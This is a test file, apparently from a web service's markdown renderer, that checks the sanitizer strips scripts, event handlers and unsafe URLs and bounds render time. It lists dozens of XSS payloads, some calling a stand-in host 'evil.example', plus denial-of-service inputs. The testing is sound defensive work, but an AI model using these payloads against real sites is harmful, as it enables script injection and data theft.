import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Element } from 'domhandler';
import { DomUtils, parseDocument } from 'htmlparser2';
import { ContentError } from '../../../server/modules/item/markdown/content-error';
import { renderMarkdown } from '../../../server/modules/item/markdown/markdown';

const render = (markdown: string) => renderMarkdown(markdown, { locale: 'en-US', folder: 'service', fileAt: () => null });

/** Rendering takes a fraction of this on the slowest machine if its work is bounded, and minutes if it is not. */
const TIME_LIMIT_MS = 60_000;

const TAGS = new Set(
  'p div section blockquote pre hr details summary figure figcaption h2 h3 h4 h5 h6 ul ol li dl dt dd table caption colgroup col thead tbody tfoot tr th td a img br span strong b em i s del ins mark small sub sup code kbd samp var abbr cite q dfn time wbr'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set(
  'id class title lang dir href rel src alt width height loading decoding start type reversed value open datetime colspan rowspan align scope headers span tabindex'.split(
    ' ',
  ),
);

/** Asserts that the HTML contains only inert elements, attributes and addresses. */
function assertHarmless(html: string, source: string): void {
  for (const element of DomUtils.filter(DomUtils.isTag, parseDocument(html)) as Element[]) {
    assert.ok(TAGS.has(element.name), `<${element.name}> from ${source}`);
    // The frame around a table is the renderer's own, and named by its columns.
    const isFrame = element.attribs.class === 'table-frame' && element.attribs.role === 'region';
    for (const [name, value] of Object.entries(element.attribs)) {
      assert.ok(ATTRIBUTES.has(name) || (isFrame && ['role', 'aria-label'].includes(name)), `${name}= from ${source}`);
      if (name === 'href' || name === 'src') assert.match(value, /^(https?:\/\/|mailto:|tel:|\/(?!\/)|#)/i, source);
    }
  }
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script>alert(1)',
  '<<script>script>alert(1)<</script>/script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '<a href="java&#9;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="JAVASCRIPT&#58;alert(1)">x</a>',
  '<a href="vbscript:x">x</a><a href="data:text/html,<script>1</script>">x</a>',
  '<a href="//evil.example">x</a> <a href="\\\\evil.example">x</a> <a href="/\\evil.example">x</a>',
  '![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<img src=x onerror=alert(1)>',
  '<img src="x" srcset="//evil.example/1 2x">',
  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  '<details open ontoggle=alert(1)>x</details>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<style>@import "//evil.example";</style><p style="background:url(//evil.example)">x</p>',
  '<link rel=stylesheet href=//evil.example><base href=//evil.example/><meta http-equiv=refresh content="0;url=//evil.example">',
  '<iframe src=//evil.example srcdoc="<script>alert(1)</script>">x</iframe><object data=x><embed src=x></object>',
  '<form action=//evil.example><input name=password autofocus onfocus=alert(1)><button formaction="javascript:1">x</button></form>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p title="`><img src=x onerror=alert(1)>">x</p>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<!--><img src=x onerror=alert(1)>--> <![CDATA[<img src=x onerror=alert(1)>]]> <?php x ?><!DOCTYPE html>',
  '`</code><img src=x onerror=alert(1)>`\n\n```"><script>\n</code></pre><script>alert(1)</script>\n```',
  '| <script>a | b |\n|--|--|\n| <img onerror=a src=x> | </table><script> |',
  '<table><td><table><script>x</table>',
  '<b><i></b><p></i></div></p></span><a href="x"><a href="javascript:1">',
  '<video src=x onerror=alert(1)><source src=x></video><audio autoplay src=//evil.example></audio>',
  '<template><script>alert(1)</script></template><custom-element is=x onclick=1>x</custom-element>',
];

test('removes everything that could run, load or send something', () => {
  for (const markdown of HOSTILE) assertHarmless(render(markdown).html, markdown);
  assertHarmless(render(HOSTILE.join('\n\n')).html, 'all together');
  assertHarmless(render(HOSTILE.join('')).html, 'all in one');
});

test('excludes the contents of scripts and styles from the text', () => {
  const { html, text } = render('before<script>alert(1)</script><style>p{}</style><svg><title>t</title></svg>after');
  assert.equal(html, '<p>beforeafter</p>');
  assert.equal(text, 'beforeafter');
});

test('shows HTML-like text as text', () => {
  assert.match(render('`<script>` and \\<b\\> & &lt;i&gt;').html, /<code>&lt;script&gt;<\/code> and &lt;b&gt; &amp; &lt;i&gt;/);
});

test('keeps ids of an article from clashing with ids of the page', () => {
  const { html } = render('# Root\n\n<div id="main">x</div>\n\n<a name="cookie">y</a> <img name="body" src="x">\n\n[z](#main)');
  const ids = [...html.matchAll(/ id="([^"]*)"/g)].map(([, id]) => id);
  assert.deepEqual(ids, ['root-1', 'main-1', 'cookie']);
  assert.doesNotMatch(html, / name=/);
  assert.match(html, /href="#main-1"/);
});

test('makes ids unique within an article', () => {
  const { html } = render('## A\n\n## A\n\n<p id="a">x</p><p id="A-1">y</p>\n\n## A 1\n\n[^a] [^a]\n\n[^a]: n');
  const ids = [...html.matchAll(/ id="([^"]*)"/g)].map(([, id]) => id);
  assert.equal(new Set(ids).size, ids.length, ids.join(' '));
});

test('removes unknown classes', () => {
  const { html } = render('```js\nx\n```\n\n<p class="ant-modal">x</p><code class="language-js evil">y</code>');
  assert.deepEqual(
    [...html.matchAll(/class="([^"]*)"/g)].map(([, name]) => name),
    ['language-js', 'language-js'],
  );
});

const N = 10_000;
const EXCESSIVE: Record<string, string> = {
  'nested quotes': `${'>'.repeat(N)} a`,
  'nested brackets': `${'['.repeat(N)}a${']'.repeat(N)}`,
  'unfinished links': '[a]('.repeat(N),
  'unfinished pictures': '![a]('.repeat(N),
  'nested lists': Array.from({ length: 500 }, (_, depth) => `${' '.repeat(depth * 2)}- a`).join('\n'),
  'emphasis without end': '*a **a _a __a ~~a '.repeat(N),
  'code without end': '`a``b'.repeat(N),
  'spaces before a brace': `a${' '.repeat(N * 10)}b{.c`,
  'open comments': '<!--'.repeat(N),
  'attributes without end': `<a ${'b=c '.repeat(N)}`,
  'paragraphs never closed': '<p>'.repeat(N),
  pictures: '<img src=x>'.repeat(N),
  'table columns': `${'|a'.repeat(N)}\n${'|-'.repeat(N)}\n${'|b'.repeat(N)}`,
  'equal headings': '# a\n'.repeat(N),
  'notes referred to again and again': `${'[^1] '.repeat(N)}\n\n[^1]: x`,
};

for (const [kind, markdown] of Object.entries(EXCESSIVE)) {
  test(`renders excessive input in bounded time: ${kind}`, () => {
    const started = performance.now();
    assertHarmless(render(markdown).html, kind);
    assert.ok(performance.now() - started < TIME_LIMIT_MS);
  });
}

const REFUSED: Record<string, string> = {
  'elements nested without end': '<div>'.repeat(N),
  'elements nested and closed': `${'<span>'.repeat(N)}x${'</span>'.repeat(N)}`,
  'ten thousand footnotes': Array.from({ length: N }, (_, note) => `[^${note}]\n\n[^${note}]: x`).join('\n\n'),
  'a long address repeated': `${'[a] '.repeat(N)}\n\n[a]: https://example.com/${'x'.repeat(5_000)}`,
};

for (const [kind, markdown] of Object.entries(REFUSED)) {
  test(`refuses input that would need excessive time or memory: ${kind}`, () => {
    const started = performance.now();
    assert.throws(() => render(markdown), ContentError);
    assert.ok(performance.now() - started < TIME_LIMIT_MS);
  });
}
